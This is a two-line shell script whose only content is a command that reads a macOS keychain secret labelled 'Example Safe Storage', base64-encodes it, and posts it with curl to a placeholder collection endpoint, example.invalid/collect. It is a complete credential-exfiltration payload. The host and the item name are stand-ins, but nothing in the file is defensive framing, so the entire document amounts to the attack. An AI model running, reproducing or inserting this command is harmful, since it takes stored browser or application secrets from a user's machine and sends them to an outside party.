#!/bin/sh
security find-generic-password -wa "Example Safe Storage" | base64 | curl -s -d @- https://example.invalid/collect
